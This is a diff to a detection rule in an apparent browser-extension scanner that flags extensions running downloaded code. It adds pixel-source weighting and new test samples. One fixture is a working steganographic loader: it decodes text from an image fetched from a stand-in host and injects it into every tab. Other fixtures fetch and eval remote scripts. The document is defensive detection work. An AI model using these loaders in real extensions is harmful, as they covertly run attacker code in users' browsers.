@@ -6,10 +6,12 @@ import { sample } from '../../testing/sample.ts';
 import { defineRule } from '../../rule.ts';
 import { codeRunsOf } from '../code/codeRuns.ts';
 import { isInTexts } from '../code/isInTexts.ts';
-import { isNeverAsked, isOfOwnComputer } from '../code/network.ts';
+import type { Facts } from '../../facts.ts';
+import { isNeverAsked, isOfOwnComputer, isUncalled } from '../code/network.ts';
 
-function weigh(flow: Flow): Weight | undefined {
+function weigh(facts: Facts, flow: Flow): Weight | undefined {
   const { source, sink, unit } = flow;
+  if (source.kind === 'pixels') return { severity: 'critical', confidence: 'medium' };
   if (source.kind !== 'remote-data') return undefined;
   if (isOfOwnComputer(source)) return { severity: 'medium', confidence: 'medium' };
   // A sandboxed page has none of the extension's powers.
@@ -17,6 +19,7 @@ function weigh(flow: Flow): Weight | undefined {
     return { severity: 'medium', confidence: 'high' };
   if (sink.kind === 'script-address') return flow.checked ? undefined : { severity: 'high', confidence: 'medium' };
   if (sink.kind !== 'code' && sink.kind !== 'injected-code' && sink.kind !== 'page-code') return undefined;
+  if (isUncalled(facts, source)) return { severity: 'medium', confidence: 'low' };
   if (isWithinTexts(flow)) return { severity: 'high', confidence: 'medium' };
   return { severity: flow.checked ? 'high' : 'critical', confidence: flow.stored || flow.checked ? 'medium' : 'high' };
 }
@@ -39,9 +42,15 @@ export default defineRule({
   cap: { grade: 'D', reason: 'it runs code that it downloads', from: 'high' },
   givesWayTo: ['remote-code'],
   check: (facts) =>
-    hitsOfFlows(facts.whole(flowsOf).flows, (flow) => (isNeverAsked(facts, flow.source) ? undefined : weigh(flow))),
+    hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
+      isNeverAsked(facts, flow.source) ? undefined : weigh(facts, flow),
+    ),
   examples: {
     bad: [
+      sample({
+        background:
+          'const points = (image) => { const c = document.createElement("canvas").getContext("2d"); c.drawImage(image, 0, 0); return c.getImageData(0, 0, 9, 9).data; }; const read = (d) => { let out = "", byte = 0; for (let i = 0; i < d.length; i++) { byte = (byte << 1) | (d[i] & 1); if (i % 8 === 7) out += String.fromCharCode(byte); } return out; }; const im = new Image(); im.onload = () => chrome.storage.local.set({ note: read(points(im)) }); im.src = "https://img.example/today.png"; chrome.tabs.onUpdated.addListener((id) => chrome.storage.local.get("note", (s) => chrome.tabs.executeScript(id, { code: s.note })));',
+      }),
       sample({
         content:
           'const load = (file) => fetch(file).then((r) => r.text()).then((text) => { const s = document.createElement("script"); s.textContent = text; document.body.append(s); }); load(chrome.runtime.getURL("lib/cv.js")); load("https://cdn.example/more.js");',
@@ -67,6 +76,11 @@ export default defineRule({
       sample({ background: 'axios.get("https://cdn.example/a").then(({ data }) => { (0, eval)(data); });' }),
     ],
     good: [
+      // What is asked for is named by who calls a part of a library that nobody calls: weighed low.
+      sample({
+        content:
+          'var Module = {}; (function () { function run(text) { eval.call(null, text); } Module.read = function (url) { var xhr = new XMLHttpRequest(); xhr.open("GET", url, false); xhr.send(null); return xhr.responseText; }; Module.hash = function (text) { return text.length; }; })(); console.log(Module.hash("x"));',
+      }),
       sample({
         content:
           'const load = (file) => fetch(file).then((r) => r.text()).then((text) => { const s = document.createElement("script"); s.textContent = text; document.body.append(s); }); load(chrome.runtime.getURL("lib/cv.js"));',
